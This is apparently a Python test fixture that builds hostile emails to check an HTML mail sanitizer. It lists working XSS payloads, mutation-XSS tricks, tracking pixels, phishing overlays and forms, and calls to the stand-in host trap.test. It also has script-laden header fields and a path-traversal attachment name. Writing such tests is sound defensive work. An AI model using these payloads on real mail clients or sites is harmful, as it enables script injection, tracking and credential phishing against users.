"""Mails whose HTML means harm to whoever opens them. Each tries to call out to trap.test, or to set `window.top.harmed`."""

from __future__ import annotations

from email.message import EmailMessage

TRAP = "trap.test"
_HARM = "try{top.harmed=1}catch(e){};fetch('http://trap.test/f')"

HOSTILE: dict[str, str] = {
    "a script": f"<p>hi</p><script>{_HARM}</script><script src='http://trap.test/s.js'></script>",
    "an event on a picture": f'<img src="x" onerror="{_HARM}">',
    "an event in a drawing": f'<svg onload="{_HARM}"><script>{_HARM}</script><animate onbegin="{_HARM}" attributeName="x"/></svg>',
    "a script address": '<a href="javascript:top.harmed=1" id="go">open</a><a href="jav&#x09;ascript:top.harmed=1">x</a>',
    "a data address": '<a href="data:text/html,<script>top.harmed=1</script>">open</a><object data="data:text/html,x"></object>',
    "a frame": f"<iframe src='http://trap.test/'></iframe><iframe srcdoc=\"<script>{_HARM}</script>\"></iframe>",
    "a tracking pixel": '<img src="http://trap.test/p.gif" width="1" height="1"><img srcset="http://trap.test/q.gif 2x">',
    "a background": '<table background="http://trap.test/b.png"><td style="background:url(http://trap.test/c.png)">x</td></table>',
    "a style sheet": "<style>@import 'http://trap.test/i.css';p{background:url(http://trap.test/d.png)}</style><p>x</p>",
    "a linked sheet": '<link rel="stylesheet" href="http://trap.test/l.css"><link rel="prefetch" href="http://trap.test/n">',
    "a page that moves on": '<meta http-equiv="refresh" content="0;url=http://trap.test/r"><base href="http://trap.test/">x',
    "a form": '<form action="http://trap.test/post" method="post"><input><button autofocus>Sign in again</button></form>',
    "a page laid over ours": '<div style="position:fixed;inset:0;z-index:9;background:red"><a href="http://trap.test/">Sign in</a></div>',
    "a link that leaves the frame": '<a href="http://trap.test/" target="_top">x</a><a href="http://trap.test/" target="_blank">y',
    "a media element": f'<video src="http://trap.test/v" onloadstart="{_HARM}" autoplay></video><audio src="http://trap.test/a">',
    "an embedded object": '<object data="http://trap.test/o"></object><embed src="http://trap.test/e"><applet code="x"></applet>',
    "a broken tag": f'<p title="--><img src=x onerror={_HARM}>"><!--><img src=x onerror="{_HARM}">--></p><![CDATA[<b>]]>',
    "mutating markup": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_HARM}&gt;">',
    "an escape from its document": f"</body></html></iframe></section><script>{_HARM}</script><h1>Not done</h1>",
    "a template": f'<template><script>{_HARM}</script></template><noscript><p title="</noscript><img src=x onerror={_HARM}>"></noscript>',
    "a secret that is markup": f'<p>The password is title="</p><p title="x onclick={_HARM} style=position:fixed y">open</p>',
    "a secret that fetches": f'<p>Password: alt="</p><img alt="x src=http://trap.test/m.gif onerror={_HARM} y"><p>Password: span</p>',
}


def mail(name: str) -> bytes:
    """The hostile mail of that name, from somebody whose name and subject are hostile as well."""
    message = EmailMessage()
    message["From"] = '"<script>top.harmed=1</script>" <eve@trap.test>'
    message["To"] = "support@icrealtime.example"
    message["Subject"] = f"<img src=http://trap.test/subject onerror=top.harmed=1> {name}"
    message["Message-ID"] = f"<{name.replace(' ', '-')}@trap.test>"
    message["Date"] = "Mon, 02 Mar 2026 10:00:00 -0500"
    message.set_content(f"Plain words of {name}: <script>top.harmed=1</script>")
    message.add_alternative(HOSTILE[name], subtype="html")
    message.add_attachment(b"<script>top.harmed=1</script>", maintype="text", subtype="html", filename="../../evil<script>.html")
    return message.as_bytes()
